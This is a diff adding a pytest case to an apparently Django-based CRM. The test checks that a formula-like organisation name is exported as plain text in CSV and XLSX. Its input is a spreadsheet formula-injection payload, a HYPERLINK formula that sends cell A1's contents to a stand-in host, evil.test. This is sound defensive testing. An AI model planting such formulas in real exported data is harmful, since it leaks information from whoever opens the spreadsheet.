@@ -89,6 +89,33 @@ def test_export_runs_in_the_background_and_gives_an_xlsx(
     assert len(rows) == 2 and rows[1][0] == "Immunotherapie Lyon"
 
 
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_export_of_a_formula_like_name_is_text(
+    fmt: str, tenant_a: Tenant, django_capture_on_commit_callbacks: object
+) -> None:
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    name = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
+    with scopes_disabled():
+        follow(tenant_a.cluster, name=name)
+    client = client_for(tenant_a.director)
+    url = reverse("crm:organisations", args=[tenant_a.cluster.slug])
+    with django_capture_on_commit_callbacks(execute=True):  # type: ignore[operator]
+        response = client.post(url, {"format": fmt})
+    download = client.get(response.url.rstrip("/") + "/download/")
+    content = b"".join(download.streaming_content)
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+        assert rows[1][0] == "'" + name
+        return
+    sheet = load_workbook(io.BytesIO(content)).active
+    cell = sheet["A2"]
+    assert cell.value == name and cell.data_type == "s"
+
+
 def test_organisation_page_shows_timeline_and_edit_saves(
     tenant_a: Tenant, orgs: list[Organisation]
 ) -> None:
